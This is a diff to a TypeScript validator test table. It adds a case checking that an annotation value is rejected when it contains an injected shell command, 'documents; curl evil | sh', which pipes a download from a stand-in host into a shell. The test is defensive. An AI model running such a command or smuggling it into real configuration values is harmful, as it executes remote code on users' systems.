@@ -55,6 +55,11 @@ const NAMESPACE: readonly Row[] = [
     ...(['namespace', 'problem', 'has to be a label', `${LABEL}=documents.orders`] as const),
   ],
   [
+    'an annotation that would be a command',
+    labelled({}, { [LABEL]: 'documents; curl evil | sh' }),
+    ...(['namespace', 'problem', 'has to be a label', /=STORE$/] as const),
+  ],
+  [
     'the label true without the annotation',
     labelled({ [LABEL]: 'true' }),
     ...(['namespace', 'problem', 'largepayload.dev/store'] as const),
